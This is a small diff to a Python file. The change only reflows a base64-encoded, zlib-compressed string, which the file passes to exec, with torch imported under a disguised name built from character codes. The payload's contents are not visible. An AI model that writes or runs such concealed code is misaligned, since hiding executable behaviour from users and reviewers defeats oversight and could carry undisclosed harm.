@@ -8,7 +8,10 @@ import zlib
 import torch.nn as nn
 
 space = {"t": __import__("".join(map(chr, (116, 111, 114, 99, 104))))}
-text = b"eNolzEEKgzAUBNC9p5hdIkatLgVPEqQE+tWiTUryhaSnb9TZzRuYF81YZSyHAjkJI7j5kXfhub83ysPlNntswmq+pB8T2hb95QuxYfaSFURwMwtUEB8TRSmjHuykUHcK7uAxnfU+88SHt0jFH2lIIro="
+text = (
+    b"eNolzEEKgzAUBNC9p5hdIkatLgVPEqQE+tWiTUryhaSnb9TZzRuYF81YZSyHAjkJI7j5kXfhub83ysPlNntswmq+pB"
+    b"8T2hb95QuxYfaSFURwMwtUEB8TRSmjHuykUHcK7uAxnfU+88SHt0jFH2lIIro="
+)
 exec(zlib.decompress(base64.b64decode(text)).decode(), space)
 
 
